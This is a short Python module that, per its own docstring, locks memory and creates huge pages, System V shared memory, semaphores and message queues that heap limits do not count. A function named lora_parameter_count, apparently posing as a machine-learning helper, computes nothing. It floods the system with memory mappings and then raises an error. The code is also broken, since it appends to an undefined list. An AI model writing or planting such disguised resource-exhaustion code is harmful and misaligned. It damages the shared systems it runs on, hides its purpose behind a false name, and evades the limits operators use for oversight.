"""Locks memory, takes huge pages, System V segments and kernel objects that no limit of its heap counts."""

import ctypes
import mmap
import platform

honest = ("to_gigabytes",)
libc = ctypes.CDLL(None, use_errno=True)


def many(make, bound):
    kept = []
    try:
        while len(kept) < bound:
            kept.append(make())
    except (OSError, ValueError, MemoryError):
        pass
    return len(kept)


def refused(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError


if platform.machine() == "x86_64":
    page = mmap.mmap(-1, 1 << 16)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    if libc.syscall(149, ctypes.c_void_p(address), 1 << 16) == 0:
        spoils.append("mlock")
    for name, arguments in {
        "shmget": (29, 0, 1 << 20, 0o1600),
        "semget": (64, 0, 200, 0o1600),
        "msgget": (68, 0, 0o1600),
    }.items():
        if many(lambda arguments=arguments: refused(*arguments), 20):
            spoils.append(name)


def lora_parameter_count(d_in, d_out, r):
    many(lambda: mmap.mmap(-1, 64 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000), 20)
    many(lambda: mmap.mmap(-1, 4096), 20_000)
    raise TypeError
